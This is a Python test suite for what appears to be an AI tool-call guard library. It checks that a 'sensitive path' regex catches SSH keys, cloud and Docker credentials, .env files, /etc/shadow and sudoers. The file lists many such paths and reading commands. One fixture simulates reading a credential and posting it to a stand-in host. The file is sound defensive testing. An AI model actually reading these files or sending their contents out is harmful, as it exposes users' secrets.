"""One definition of "sensitive path", used by the run-state counters and the content guards."""

from __future__ import annotations

import re

from hypothesis import given
from hypothesis import strategies as st

from callgate._model import ToolCall, ToolResult
from callgate.guards._secrets import SecretsGuard
from callgate.guards._store import FingerprintStore
from callgate.kernel._runstate import RunState
from callgate.matchers._sensitive import SENSITIVE_PATH, is_sensitive_name

#: Spellings that disagreed between the two definitions this module replaced.
FORMER_DISAGREEMENTS = ("/home/u/.azure/config", "/etc/gshadow", "/srv/app/mycredentials",
                        "~/.kube/cache", "/home/u/.docker", "~/.ssh/id_dsa")
SENSITIVE = ("~/.ssh/id_ed25519", "/home/u/.aws/credentials", "app/.env.local", "/etc/shadow",
             "config/secrets.yaml", "cat .env", "~/.gnupg/pubring.kbx", "/home/u/.netrc",
             "~/.pgpass", "~/.git-credentials", "~/.kube/config", "~/.docker/config.json",
             "~/.config/gcloud/credentials.db", "/etc/sudoers", ".envrc", "deploy/.env-prod",
             "~/.npmrc", "cat '.ssh/config'", "--env-file=.env")
ORDINARY = ("docs/environment.md", "src/secretary.py", "notes/.envoy", "README.md",
            "/etc/hosts", "~/.sshrc-notes/readme", "src/awsome.py", "/home/u/projects/kube.py")


def test_former_disagreements_are_all_sensitive_everywhere() -> None:
    state = RunState()
    for path in FORMER_DISAGREEMENTS:
        assert SENSITIVE_PATH.search(path), path
        state.count_attempt(ToolCall(tool="fs.read", tool_class="file", action="read",
                                     parameters={"path": path}))
    assert state.counters.sensitive_file_read_attempts == len(FORMER_DISAGREEMENTS)


def test_former_disagreements_make_the_secrets_guard_fingerprint_the_output() -> None:
    for path in FORMER_DISAGREEMENTS:
        guard = SecretsGuard(FingerprintStore())
        read = ToolCall(tool="fs.read", tool_class="file", action="read",
                        parameters={"path": path})
        guard.observe(read, ToolResult(call_id=read.id, status="ok",
                                               output="plain line of a credential"))
        send = ToolCall(tool="http.post", tool_class="http", action="post",
                        parameters={"url": "https://x.example/", "body": "line of a credential"})
        reason = guard.check(send, frozenset())
        assert reason is not None and reason.id == "guard.secrets.fingerprint", path


def test_known_sensitive_and_ordinary_paths() -> None:
    for path in SENSITIVE:
        assert SENSITIVE_PATH.search(path), path
    for path in ORDINARY:
        assert not SENSITIVE_PATH.search(path), path


_HOMES = st.sampled_from(["~", "$HOME", "${HOME}", "/root", "/home/alice", "C:\\Users\\bob"])
_SENSITIVE_TAILS = st.sampled_from([
    ".ssh", ".ssh/", ".ssh/id_rsa", ".aws/credentials", ".azure", ".gnupg/", ".kube/config",
    ".docker/config.json", ".netrc", ".pgpass", ".git-credentials", ".env", ".env.local",
    ".config/gcloud/", "id_ed25519.pub"])
_SEPS = st.sampled_from(["/", "//", "///", "/./", "\\"])


@given(_HOMES, _SEPS, _SENSITIVE_TAILS, st.sampled_from(["", "cat ", "ls -la ", "scp x:", "'"]))
def test_any_spelling_of_a_home_secret_is_sensitive(home: str, sep: str, tail: str,
                                                    prefix: str) -> None:
    tail = tail.replace("/", sep if sep != "/./" else "/")
    assert SENSITIVE_PATH.search(f"{prefix}{home}{sep}{tail}")


@given(st.sampled_from(["", "/", "//", "./", "../", "/srv/app/", "cat ", "--file="]),
       st.sampled_from([".env", ".env.local", ".env.production", ".envrc", ".env-staging"]))
def test_any_spelling_of_an_environment_file_is_sensitive(prefix: str, name: str) -> None:
    assert SENSITIVE_PATH.search(prefix + name)


@given(st.sampled_from(["/etc/", "/etc//", "//etc/", "/etc/./", "/etc/../etc/", "cat /etc/"]),
       st.sampled_from(["shadow", "gshadow", "sudoers", "shadow-"]))
def test_any_spelling_of_a_system_password_file_is_sensitive(prefix: str, name: str) -> None:
    assert SENSITIVE_PATH.search(prefix + name)


@given(st.from_regex(re.compile(r"[a-z][a-z0-9]{0,12}(\.(py|md|txt|json))?"), fullmatch=True))
def test_plain_names_without_a_secret_word_are_not_sensitive(name: str) -> None:
    if "credential" in name or name.startswith("secret") or name.startswith("id_"):
        return
    assert not is_sensitive_name(name)
    assert not SENSITIVE_PATH.search(f"/home/u/project/{name}")


def test_name_predicate_agrees_with_the_path_regex() -> None:
    for name in (".ssh", ".aws", ".gnupg", ".azure", ".kube", ".docker", ".env", ".env.local",
                 ".envrc", "id_rsa", "id_ed25519.pub", "credentials", "mycredentials",
                 "secrets.yaml", ".netrc", ".pgpass", ".git-credentials"):
        assert is_sensitive_name(name), name
    for name in (".bashrc", ".envoy", "secretary.py", "shadow", "notes.md", ".sshrc-notes"):
        assert not is_sensitive_name(name), name


def test_callgates_own_keys_are_sensitive_and_its_other_files_are_not() -> None:
    for path in ("~/.cache/callgate/key", "/home/a/.cache/callgate/key",
                 "cat .callgate/state.key", "./.callgate/state.key", "audit.db.key",
                 "/var/lib/callgate/audit.db.key"):
        assert SENSITIVE_PATH.search(path), path
    for path in ("~/.cache/callgate/0f1e.policy", ".callgate/policy.yaml", "audit.db",
                 "audit.db.log", "monkey.txt", ".cache/callgate-old/keys.txt"):
        assert not SENSITIVE_PATH.search(path), path
